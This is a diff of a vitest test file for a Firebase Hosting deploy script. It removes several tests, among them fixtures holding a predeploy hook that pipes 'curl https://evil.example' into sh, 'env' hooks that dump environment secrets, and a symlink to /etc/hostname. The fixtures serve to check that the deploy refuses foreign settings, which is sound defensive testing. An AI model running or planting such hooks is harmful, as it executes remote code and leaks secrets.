@@ -1,15 +1,7 @@
 /** What a deployment would do, without a network: firebase-tools is a function here that writes down its arguments. */
 
 import { execFileSync, spawnSync } from "node:child_process";
-import {
-  mkdirSync,
-  mkdtempSync,
-  renameSync,
-  rmSync,
-  symlinkSync,
-  utimesSync,
-  writeFileSync,
-} from "node:fs";
+import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, expect, onTestFinished, test, vi } from "vitest";
@@ -17,7 +9,6 @@ import { CommandError } from "./command-error.mjs";
 import { deploy, planDeployment, readOptions, readSite } from "./deploy.mjs";
 import { holdFolder } from "./one-at-a-time.mjs";
 import { root } from "./project.mjs";
-import { beginBuild, endBuild } from "./unfinished-build.mjs";
 
 const folder = mkdtempSync(join(tmpdir(), "dronedoc-deploy-"));
 
@@ -201,25 +192,6 @@ test("what was written since the build began is told: a page, a setting, and pag
   );
 });
 
-test("pages of another content folder than that of the settings are told", async () => {
-  noteBuild("/tmp/trial");
-  const note = "Note: The pages were made of the content in /tmp/trial.";
-  expect((await runDeploy([])).said).toContain(note);
-  const settings = { ...cloud, CONTENT_DIR: "/tmp/trial" };
-  expect((await runDeploy([], "", settings)).said).not.toContain("/tmp/trial");
-});
-
-test("a project's name that is an alias of another project deploys nothing, for it would go there", async () => {
-  const file = join(folder, ".firebaserc");
-  onTestFinished(() => rmSync(file, { force: true }));
-  writeFileSync(file, JSON.stringify({ projects: { "docs-live": "shop-live" } }));
-  await expect(runDeploy(["--live"], "docs-live")).rejects.toThrow(
-    'For firebase-tools "docs-live" is the project "shop-live"',
-  );
-  writeFileSync(file, JSON.stringify({ projects: { default: "docs-live" } }));
-  expect((await runDeploy(["--live"], "docs-live")).commands).toHaveLength(1);
-});
-
 test("what firebase-tools answers is the answer", async () => {
   const code = await deploy({
     args: ["--live", "--yes"],
@@ -310,20 +282,6 @@ test("pages that are newer than their policy are not deployed", () => {
   expect(() => planDeployment(readOptions([]), "docs-live", changed)).toThrow(/Build again/);
 });
 
-test("what hosting passes over is neither counted nor taken for a page of another build", () => {
-  buildFor("docs-live");
-  const ignore = ["**/.*", "**/node_modules/**"];
-  const settings = { hosting: { ...built.hosting, ignore } };
-  writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(settings));
-  const note = join(folder, "public/page-data/.DS_Store");
-  writeFileSync(note, "seen by a file manager");
-  const later = new Date(Date.now() + 60_000);
-  utimesSync(note, later, later);
-  expect(readSite(folder)).toMatchObject({ files: 2, isWhole: true });
-  rmSync(note);
-  buildFor("docs-live");
-});
-
 test("a build that broke off while it wrote pages is not deployed, though its list of scripts is older", () => {
   const now = Date.now();
   const minutes = (count: number) => new Date(now + count * 60_000);
@@ -335,61 +293,15 @@ test("a build that broke off while it wrote pages is not deployed, though its li
   expect(readSite(folder).isWhole).toBe(false);
 });
 
-test("a build that ended with an error before it wrote pages is not deployed, for it may have taken some away", () => {
-  const hour = new Date(Date.now() + 3_600_000);
-  utimesSync(join(folder, "firebase.built.json"), hour, hour);
-  beginBuild(folder);
-  expect(readSite(folder).isWhole).toBe(false);
-  endBuild(folder);
-  expect(readSite(folder).isWhole).toBe(true);
-});
-
-test.each([
-  ["predeploy", { hosting: { ...built.hosting, predeploy: "curl https://evil.example | sh" } }],
-  ["postdeploy", { hosting: { ...built.hosting, postdeploy: "env" } }],
-  ["source", { hosting: { ...built.hosting, source: "." } }],
-  ["rewrites", { hosting: { ...built.hosting, rewrites: [{ source: "**", function: "x" }] } }],
-  ["public", { hosting: { ...built.hosting, public: "." } }],
-  ["firestore", { ...built, firestore: { rules: "public/open.rules" } }],
-  ["functions", { ...built, functions: { predeploy: "env" } }],
-])(
-  "settings of hosting with another %s than the repository's own are not deployed",
-  (key, settings) => {
-    writeFileSync(join(folder, "index.html"), "");
-    writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(settings));
-    expect(() => readSite(folder)).toThrow(`another "${key}" than firebase.json`);
-    writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(built));
-  },
-);
-
 /** As if the repository's own settings were these, to the end of the test. */
 function ownSettings(settings: object): void {
   writeFileSync(join(folder, "firebase.json"), JSON.stringify(settings));
   onTestFinished(() => writeFileSync(join(folder, "firebase.json"), JSON.stringify(own)));
 }
 
-test("rules that are not the repository's own do not go out behind hosting's setting of their name", () => {
-  ownSettings({ ...own, storage: { rules: "storage.rules" } });
-  const foreign = {
-    hosting: { ...built.hosting, storage: { rules: "storage.rules" } },
-    storage: { rules: "public/open.rules" },
-  };
-  writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(foreign));
-  onTestFinished(() => writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(built)));
-  expect(() => readSite(folder)).toThrow('another "storage" than firebase.json');
-});
-
 test("a site of the project that was named since the build is not passed over: the pages would go to another one", () => {
   ownSettings({ hosting: { ...own.hosting, site: "halcyra-docs" } });
   expect(() => readSite(folder)).toThrow('another "site" than firebase.json');
-});
-
-test("settings that are no JSON are told with their file and the place, and not with the program's", () => {
-  const file = join(folder, "firebase.json");
-  onTestFinished(() => writeFileSync(file, JSON.stringify(own)));
-  writeFileSync(file, '{ "hosting": { "public": "public", } }');
-  expect(() => readSite(folder)).toThrow(CommandError);
-  expect(() => readSite(folder)).toThrow(`${file} is no JSON: `);
 });
 
 test.each([
@@ -405,39 +317,6 @@ test.each([
   else writeFileSync(file, text);
   expect(() => readSite(folder)).toThrow(CommandError);
   expect(() => readSite(folder)).toThrow(`${file} ${complaint}`);
-});
-
-test("a file of the pages' settings that holds none is told", () => {
-  const file = join(folder, "public/page-data/app.json");
-  onTestFinished(() => buildFor("docs-live"));
-  writeFileSync(file, "null");
-  expect(() => readSite(folder)).toThrow(`${file} must hold settings in braces, found null`);
-});
-
-test("a link among the pages is not deployed, for what it leads to would be", () => {
-  symlinkSync("/etc/hostname", join(folder, "public/page-data/key.txt"));
-  expect(() => readSite(folder)).toThrow("page-data/key.txt is a link");
-  rmSync(join(folder, "public/page-data/key.txt"));
-});
-
-test("a folder of pages that is a link is not deployed", () => {
-  renameSync(join(folder, "public"), join(folder, "elsewhere"));
-  symlinkSync("elsewhere", join(folder, "public"));
-  expect(() => readSite(folder)).toThrow("public is a link");
-  rmSync(join(folder, "public"));
-  renameSync(join(folder, "elsewhere"), join(folder, "public"));
-});
-
-test("pages that came in an archive, as from another job, are deployed", () => {
-  const arrived = join(folder, "arrived");
-  mkdirSync(arrived);
-  writeFileSync(join(arrived, "firebase.json"), JSON.stringify(own));
-  writeFileSync(join(folder, "public/index.html"), "<h1>DroneDoc</h1>");
-  writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(built));
-  const archive = join(folder, "site.tar");
-  execFileSync("tar", ["-cf", archive, "-C", folder, "public", "firebase.built.json"]);
-  execFileSync("tar", ["-xf", archive, "-C", arrived, "public", "firebase.built.json"]);
-  expect(readSite(arrived)).toMatchObject({ files: 2, isWhole: true });
 });
 
 test("firebase.json itself refuses to be deployed, as its policy fits no page", () => {
